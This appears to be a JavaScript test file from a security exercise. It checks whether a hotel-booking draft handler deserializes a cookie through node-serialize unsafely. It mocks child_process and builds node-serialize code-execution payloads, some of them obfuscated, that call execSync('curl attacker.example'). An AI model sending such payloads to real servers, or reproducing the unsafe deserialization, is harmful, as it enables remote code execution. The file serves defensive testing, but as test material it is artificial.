const web = world('express');
const ran = [];
const shell = { execSync: (command) => { ran.push(command); return ''; } };
const MARK = '_$$ND_FUNC$$_';

/** As the real package does it: a text that begins with the mark is code. */
function revive(value) {
  if (typeof value === 'string' && value.startsWith(MARK)) {
    return new Function('require', `return (${value.slice(MARK.length)})`)(() => shell);
  }
  if (value && typeof value === 'object') {
    for (const key of Object.keys(value)) value[key] = revive(value[key]);
  }
  return value;
}

exports.modules = {
  'node-serialize': {
    serialize: (value) => JSON.stringify(value),
    unserialize: (text) => revive(JSON.parse(text)),
  },
  child_process: shell,
};

async function show(code, cookies) {
  const { req, res, answer } = web.exchange({ cookies });
  await code.showDraft(req, res);
  return answer();
}

/** @returns the cookie's text that the browser sends back */
async function keep(code, body) {
  const { req, res, answer } = web.exchange({ method: 'PUT', body });
  await code.keepDraft(req, res);
  return answer().cookies.draft?.value;
}

const EMPTY = { room: '', nights: 1, extras: [] };

exports.behaviour = {
  'shows an empty form without a cookie': async (code) => {
    equal((await show(code, {})).body, EMPTY);
  },
  'shows again what the guest has typed': async (code) => {
    const draft = { room: 'Lake view', nights: 3, extras: ['breakfast', 'bicycle'] };
    const kept = await keep(code, draft);
    holds(typeof kept === 'string', 'The draft is kept in the cookie `draft`.');
    equal((await show(code, { draft: kept })).body, draft);
  },
  'shows an empty form when the cookie is broken': async (code) => {
    equal((await show(code, { draft: '{"room":' })).body, EMPTY);
  },
};

async function tryCookie(code, draft) {
  await show(code, { draft }).catch(() => undefined);
  return ran.length > 0 ? `The server ran \`${ran[0]}\`.` : undefined;
}

exports.attack = tryCookie;

const call = (command) => `${MARK}function(){ require('child_process').execSync('${command}') }()`;

exports.variants = {
  'a function further inside': (code) =>
    tryCookie(code, JSON.stringify({ room: 'Lake view', nights: 2, extras: ['breakfast', call('curl attacker.example')] })),
  'a mark that is written in another way': async (code) =>
    (await tryCookie(code, JSON.stringify({ room: call('curl attacker.example') }).replace('_$$', '\\u005f$$$$')))
    ?? tryCookie(code, JSON.stringify({ room: `${MARK.slice(0, 5)}${MARK}${MARK.slice(5)}${call('curl attacker.example').slice(MARK.length)}` })),
};
